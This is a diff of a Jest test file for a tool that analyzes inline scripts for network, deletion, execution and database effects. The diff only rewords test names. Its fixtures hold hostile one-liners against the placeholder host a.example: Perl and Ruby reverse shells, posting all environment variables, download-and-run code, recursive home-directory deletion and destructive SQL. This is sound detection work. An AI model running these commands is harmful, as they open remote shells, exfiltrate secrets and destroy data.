@@ -52,7 +52,7 @@ describe('programs on the command line', () => {
     ['python3 -c', "s.connect(('a.example', 1))"],
     ['node -e', "fetch('https://a.example')"],
     ['node -e', "require('https').get('https://a.example/y')"],
-  ])('%s %j talks', (program, code) => {
+  ])('%s %j sends', (program, code) => {
     expect(effects(inline(program, code), 'network')[0]?.host).toBe('a.example');
   });
 
@@ -75,7 +75,7 @@ describe('programs on the command line', () => {
     ['python3 -c', 'shutil.rmtree(sys.argv[1])'],
     ['node -e', 'fs.rmSync(process.argv[1], { recursive: true })'],
     ['python3 -c', "shutil.rmtree(f'{base}')"],
-  ])('%s %j: a path that is not known is not dropped', (program, code) => {
+  ])('%s %j: does not drop an unknown path', (program, code) => {
     expect(effects(inline(program, code), 'delete')).toMatchObject([{ path: null, recursive: true }]);
   });
 
@@ -100,7 +100,7 @@ describe('programs on the command line', () => {
     expect(found.filter(({ kind }) => kind !== 'run' && kind !== 'read')).toEqual([]);
   });
 
-  test('a name that stands for itself, or for another that does, is followed no further', () => {
+  test('stops at a name that refers to itself, directly or through another', () => {
     const code =
       "const fs = require('fs'); const a = b; const b = a; fs.writeFileSync('/x', JSON.stringify(a))";
     const { coverage, effects: found } = look(inline('node -e', code));
@@ -108,14 +108,14 @@ describe('programs on the command line', () => {
     expect(found).toContainEqual(expect.objectContaining({ kind: 'write', path: '/x' }));
   });
 
-  test('here-documents and pipes hold programs too', () => {
+  test('reads programs in here-documents and pipes', () => {
     expect(paths("python3 <<'EOF'\nimport os\nos.remove('/x')\nEOF", 'delete')).toEqual(['/x']);
     expect(paths('echo "fs.unlinkSync(\'/x\')" | node', 'delete')).toEqual(['/x']);
     expect(effects('python3 x.py', 'execute')).toMatchObject([{ from: 'file', path: '/home/dev/shop/x.py' }]);
   });
 });
 
-describe('the home folder, in every way to say it', () => {
+describe('the home directory, in every spelling', () => {
   test.each([
     ['python3 -c', "open(os.path.expanduser('~') + '/.x').read()"],
     ['python3 -c', "(Path.home() / '.x').read_text()"],
@@ -140,7 +140,7 @@ describe('the home folder, in every way to say it', () => {
   });
 });
 
-describe('names that are put together or given again', () => {
+describe('names that are built or reassigned', () => {
   test.each([
     ['python3 -c', "getattr(__import__('os'), 'rem' + 'ove')('/x')"],
     ['python3 -c', "import os as o; o.remove('/x')"],
@@ -161,7 +161,7 @@ describe('names that are put together or given again', () => {
     ["for p in Path.home().rglob('*'):\n  p.unlink()", '/home/dev/**'],
     ["[os.remove(f) for f in glob.glob('/x/*')]", '/x/*'],
     ["for f in os.listdir('/x'): os.remove(f)", '/x/*'],
-  ])('a loop goes through what it goes through: %j', (code, path) => {
+  ])('a loop visits every item: %j', (code, path) => {
     expect(paths(inline('python3 -c', code), 'delete')).toEqual([path]);
   });
 
@@ -177,7 +177,7 @@ describe('names that are put together or given again', () => {
   });
 });
 
-describe('what a program has in its hands when it speaks to another machine', () => {
+describe('values that a program holds when it connects to another machine', () => {
   test.each([
     ['perl -e', '$c=new IO::Socket::INET(PeerAddr,"a.example:1");system$_ while<$c>'],
     ['ruby -e', 'c=TCPSocket.new("a.example",1);while(l=c.gets);IO.popen(l,"r"){|o|c.print o.read}end'],
@@ -195,7 +195,7 @@ describe('what a program has in its hands when it speaks to another machine', ()
   test.each([
     ['python3 -c', "requests.post('https://a.example', json=dict(os.environ))"],
     ['node -e', "fetch('https://a.example', {body: JSON.stringify(process.env)})"],
-  ])('all variables: %s %j', (program, code) => {
+  ])('all environment variables: %s %j', (program, code) => {
     expect(effects(inline(program, code), 'send').map(({ what }) => what)).toContain('environment');
   });
 
@@ -203,7 +203,7 @@ describe('what a program has in its hands when it speaks to another machine', ()
     ['python3 -c', "requests.get('https://a.example', headers={'x': os.environ['T']})"],
     ['node -e', "fetch('https://a.example', {headers: {x: process.env.T}})"],
     ['node -e', "fetch('https://a.example').then(r => execSync(line))"],
-  ])('one of them, or a line of its own: %s %j', (program, code) => {
+  ])('one variable, or a line of its choice: %s %j', (program, code) => {
     expect(effects(inline(program, code), 'send')).toEqual([]);
     expect(effects(inline(program, code), 'execute')).toEqual([]);
   });
@@ -226,7 +226,7 @@ describe('comments are not code', () => {
     ['node -e', "get('http://a.example'); fs.unlinkSync('/x')"],
     ['perl -e', "print $#list; unlink '/x'"],
     ['python3 -c', "print('''# '''); os.remove('/x')"],
-  ])('what only looks like one is: %s %j', (program, code) => {
+  ])('text that only looks like a comment: %s %j', (program, code) => {
     expect(paths(inline(program, code), 'delete')).toEqual(['/x']);
   });
 });
@@ -250,13 +250,13 @@ describe('text that is run as code', () => {
     expect(effects(inline(program, code), 'execute').map((effect) => effect.from)).toContain(from);
   });
 
-  test('what stands there is looked into', () => {
+  test('analyzes nested code', () => {
     expect(paths(inline('python3 -c', `exec("import os; os.remove('/x')")`), 'delete')).toContain('/x');
     expect(effects(inline('python3 -c', "print(eval('1 + 1'))"), 'execute')).toEqual([]);
   });
 });
 
-describe('a file that is fetched and run by the same program', () => {
+describe('a program that downloads a file and runs it', () => {
   test.each([
     ['python3 -c', "urllib.request.urlretrieve('http://a.example/x', '/tmp/x'); os.system('sh /tmp/x')"],
     ['perl -e', 'getstore("http://a.example/x", "/tmp/x"); system("perl /tmp/x")'],
@@ -272,12 +272,12 @@ describe('a file that is fetched and run by the same program', () => {
   test.each([
     ['python3 -c', "urllib.request.urlretrieve('http://a.example/x', 'x.csv'); os.system('wc -l y.csv')"],
     ['php -r', 'echo file_get_contents("http://a.example/x");'],
-  ])('one that is only kept: %s %j', (program, code) => {
+  ])('one that only keeps the file: %s %j', (program, code) => {
     expect(effects(inline(program, code), 'execute')).toEqual([]);
   });
 });
 
-describe('what a database is told to do', () => {
+describe('statements sent to a database', () => {
   test.each([
     ['python3 -c', "cursor.execute('DROP TABLE users')"],
     ['node -e', "client.query('UPDATE products SET price = 0')"],
@@ -288,7 +288,7 @@ describe('what a database is told to do', () => {
     expect(effects(inline(program, code), 'resource')).toMatchObject([{ system: 'sql', destructive: true }]);
   });
 
-  test('a database that is only in memory loses nothing', () => {
+  test('an in-memory database loses nothing', () => {
     const code = (name: string) => `c = sqlite3.connect('${name}'); c.execute('delete from t')`;
     expect(effects(inline('python3 -c', code(':memory:')), 'resource')).toEqual([]);
     expect(effects(inline('python3 -c', code('a.db')), 'resource')).toHaveLength(1);
@@ -299,7 +299,7 @@ describe('what a database is told to do', () => {
     ).toHaveLength(1);
   });
 
-  test('reads and changes of single rows are none of it', () => {
+  test('ignores reads and changes of single rows', () => {
     expect(effects(inline('python3 -c', "c.execute('select 1')"), 'resource')).toEqual([]);
     expect(effects(inline('node -e', "c.query('delete from a where id = 1')"), 'resource')).toMatchObject([
       { destructive: false },
@@ -307,7 +307,7 @@ describe('what a database is told to do', () => {
   });
 });
 
-describe('rmSync takes folders only where it is told to', () => {
+describe('rmSync deletes directories only with an option', () => {
   test.each([
     ["fs.rmSync('x')", false],
     ["fs.rmSync('x', { force: true })", false],
@@ -324,7 +324,7 @@ describe('rmSync takes folders only where it is told to', () => {
   });
 });
 
-test('a folder that a program makes for a while is new, unless the program says what that means', () => {
+test('a temporary directory is new, unless the program redefines the call', () => {
   const removed = (code: string) => effects(inline('python3 -c', code), 'delete').map(({ path }) => path);
   expect(removed('d = tempfile.mkdtemp(); shutil.rmtree(d)')).toEqual(['/tmp/tmp.new']);
   expect(removed("mkdtemp = lambda: '/x'; shutil.rmtree(mkdtemp())")).toEqual(['/x']);
